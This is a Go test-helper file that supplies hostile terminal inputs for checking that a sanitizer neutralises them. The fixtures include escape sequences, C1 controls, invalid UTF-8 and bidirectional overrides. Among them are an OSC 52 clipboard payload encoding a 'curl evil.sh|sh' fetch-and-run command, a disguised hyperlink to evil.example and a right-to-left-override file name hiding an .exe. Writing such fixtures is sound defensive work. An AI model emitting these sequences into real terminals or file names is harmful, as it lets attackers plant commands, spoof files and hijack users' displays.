package guardtest

import (
	"strings"
	"testing"

	"crewai-setup/guard"
)

// Escape is one hostile sequence: its name, the raw text and what guard.Visible shows.
type Escape struct {
	Name, Raw, Visible string
}

// Escapes returns terminal escape sequences (OSC 0/8/52, CSI, DCS), C1 controls, bytes that
// are not UTF-8, and bidirectional overrides, isolates and marks, as a value, a key or a file
// name could hold them.
func Escapes() []Escape {
	return []Escape{
		{"OSC 0 window title", "db\x1b]0;pwned\x07host", `db\x1b]0;pwned\x07host`},
		{"OSC 0 with ST", "\x1b]0;pwned\x1b\\", `\x1b]0;pwned\x1b\`},
		{"OSC 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", `\x1b]8;;https://evil.example\x1b\click\x1b]8;;\x1b\`},
		{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", `\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07`},
		{"CSI clear screen", "\x1b[2J\x1b[H", `\x1b[2J\x1b[H`},
		{"CSI SGR hidden text", "\x1b[8msecret\x1b[0m", `\x1b[8msecret\x1b[0m`},
		{"DCS", "\x1bP+q544e\x1b\\", `\x1bP+q544e\x1b\`},
		{"C1 CSI as a character", "a\u009b2Jb", `a\u009b2Jb`},
		{"C1 OSC and ST as characters", "\u009d0;t\u009c", `\u009d0;t\u009c`},
		{"C1 NEL", "a\u0085b", `a\u0085b`},
		{"raw C1 byte, not UTF-8", "a\x9b2Jb", `a\x9b2Jb`},
		{"invalid UTF-8", "\xff\xfe", `\xff\xfe`},
		{"BEL, NUL, backspace, DEL", "\x07\x00\x08\x7f", `\x07\x00\x08\x7f`},
		{"tab, newline, carriage return", "a\tb\nc\rd", `a\tb\nc\rd`},
		{"RLO bidi override", "invoice\u202Efdp.exe", `invoice\u202efdp.exe`},
		{"LRE PDF embedding", "\u202Aa\u202C", `\u202aa\u202c`},
		{"LRO RLE", "\u202D\u202B", `\u202d\u202b`},
		{"isolates", "\u2066a\u2067b\u2068c\u2069", `\u2066a\u2067b\u2068c\u2069`},
		{"marks", "\u200Ea\u200Fb\u061Cc", `\u200ea\u200fb\u061cc`},
		{"line and paragraph separators", "a\u2028b\u2029c", `a\u2028b\u2029c`},
	}
}

// Hostile is every Escape's raw text joined with spaces: one value that holds them all.
func Hostile() string {
	var raw []string
	for _, e := range Escapes() {
		raw = append(raw, e.Raw)
	}
	return strings.Join(raw, " ")
}

// AssertClean fails the test when output holds anything a terminal would act on, other than
// the line breaks (and, with tabs, the tabs) that the output itself is made of. where names
// the output path for the message.
func AssertClean(t testing.TB, where, output string, tabs bool) {
	t.Helper()
	for _, line := range strings.Split(output, "\n") {
		if tabs {
			line = strings.ReplaceAll(line, "\t", "")
		}
		if bad := guard.Unsafe(line); bad != "" {
			t.Errorf("%s: the output holds %s: %q", where, bad, line)
			return
		}
	}
}
